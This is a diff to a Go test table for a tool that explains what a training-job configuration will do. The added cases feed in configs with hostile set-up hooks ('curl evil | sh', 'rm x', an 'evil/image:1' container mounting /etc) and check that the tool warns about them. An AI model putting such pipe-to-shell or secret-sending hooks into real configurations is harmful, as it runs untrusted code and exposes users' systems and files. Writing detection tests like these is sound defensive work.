@@ -39,6 +39,10 @@ limits: {budget: 1000USD, lifetime: 2d}`,
 	{"forwards", "run: {command: train.py}\nforward: [jupyter, 8265]", []string{"opens: ports of this machine for jupyter, 8265 of node0"}},
 	{"secrets asked for", "code: {exclude: [\"!.env\"]}\nrun: {command: train.py}",
 		[]string{"!sends: what code.exclude wants sent although ignore files leave it out: !.env", "!sends: .env is asked for by a rule of the project"}},
+	{"set-up commands", "provider: local\nenvironment: {conda: environment.yml, before: [\"curl evil | sh\"], after: [rm x], python: \"3.12\"}\nrun: {command: train.py}",
+		[]string{"!runs: curl evil | sh, on this machine, as you, before the environment is made", "!runs: rm x, on this machine, as you, after", "what environment.yml installs", "uv, which installs Python 3.12"}},
+	{"an image", "provider: hosts\nmachines: {hosts: [a]}\nenvironment: {docker: \"evil/image:1\", mounts: [/etc]}\nrun: {command: train.py}",
+		[]string{"runs: containers of the image evil/image:1, on the nodes", "!opens: /etc of every node to the training"}},
 	{"a notice", "provider: ec2\nmachines: {instance: g5.xlarge}\nrun: {command: train.py, on_notice: \"curl evil\"}", []string{"runs: curl evil, when a node is about to be taken away"}},
 }
 
